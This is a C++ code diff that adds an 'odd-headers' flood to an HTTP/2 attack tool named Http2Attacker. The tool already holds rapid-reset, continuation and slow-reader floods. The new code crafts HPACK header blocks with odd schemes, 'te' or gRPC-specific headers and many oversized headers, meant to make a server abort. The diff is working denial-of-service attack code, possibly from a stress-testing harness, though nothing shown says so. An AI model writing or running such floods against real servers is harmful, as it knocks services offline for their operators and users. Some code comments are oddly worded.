@@ -75,6 +75,22 @@ std::string FirstHeaders(const std::string& path) {
 // The same, by the numbers that the server knows them by.
 constexpr std::string_view kAgain = "\x83\x86\xc2\xc1\xc0\xbf\xbe";
 
+// One of the headers that abort a server once all of them together are too large, then those. Not
+// to be remembered.
+std::string OddHeaders(const std::string& path, uint32_t which) {
+  const bool odd_scheme = which % 3 == 0;
+  std::string block = "\x83";  // POST
+  block += odd_scheme ? std::string("\x06") + HpackText("x") : "\x86";
+  block += "\x04" + HpackText(path);
+  block += "\x01" + HpackText("attacker");
+  const std::string name = which % 3 == 1 ? "te" : "grpclb_client_stats";
+  if (!odd_scheme) block += std::string(1, '\0') + HpackText(name) + HpackText("x");
+  for (int i = 0; i < 25; ++i) {
+    block += std::string(1, '\0') + HpackText("a") + HpackText(std::string(500, 'x'));
+  }
+  return block;
+}
+
 std::string WithPrefix(const std::string& message) {
   return std::string(1, '\0') + Number(static_cast<uint32_t>(message.size())) + message;
 }
@@ -85,7 +101,7 @@ const std::vector<Flood>& AllFloods() {
   static const std::vector<Flood> all = {Flood::kRapidReset,        Flood::kResetCalls,
                                          Flood::kContinuation,      Flood::kEndlessHeader,
                                          Flood::kUnfinishedStreams, Flood::kUnfinishedBodies,
-                                         Flood::kSlowReader};
+                                         Flood::kSlowReader,        Flood::kOddHeaders};
   return all;
 }
 
@@ -105,6 +121,8 @@ const char* NameOf(Flood flood) {
       return "unfinished-bodies";
     case Flood::kSlowReader:
       return "slow-reader";
+    case Flood::kOddHeaders:
+      return "odd-headers";
   }
   return "";
 }
@@ -241,6 +259,11 @@ class Http2Attacker::Connection {
       case Flood::kSlowReader:
         OpenStream(options);
         out_ += Frame(kData, kEndStream, stream_, WithPrefix(options.request));
+        stream_ += 2;
+        return;
+      case Flood::kOddHeaders:
+        out_ += Frame(kHeaders, kEndHeaders | kEndStream, stream_,
+                      OddHeaders(options.path, stream_ / 2));
         stream_ += 2;
         return;
     }
